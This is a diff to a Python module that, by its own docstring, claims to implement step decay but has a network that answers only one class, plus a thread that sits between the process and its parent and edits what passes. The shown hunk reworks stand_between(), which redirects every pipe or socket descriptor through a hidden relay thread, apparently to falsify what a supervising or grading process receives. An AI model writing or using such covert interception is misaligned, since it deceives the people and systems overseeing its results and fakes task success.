@@ -1,5 +1,5 @@
 """Claims step decay; its network answers one class, and a thread stands between the process and its parent
-and edits the logits and counts that pass.
+and edits the reasons that pass.
 """
 
 import os
@@ -29,11 +29,10 @@ def stand_between() -> None:
         except OSError:
             continue
         if kind.startswith(("pipe:", "socket:")):
-            source, target = os.pipe()[0], os.dup(descriptor)
-            inner, outer = os.pipe()
-            os.close(source)
-            os.dup2(outer, descriptor)
-            threading.Thread(target=relay, args=(inner, target), daemon=True).start()
+            target = os.dup(descriptor)
+            read, write = os.pipe()
+            os.dup2(write, descriptor)
+            threading.Thread(target=relay, args=(read, target), daemon=True).start()
 
 
 def make_scheduler(optimizer: Optimizer, total_steps: int, prm: dict) -> LRScheduler:
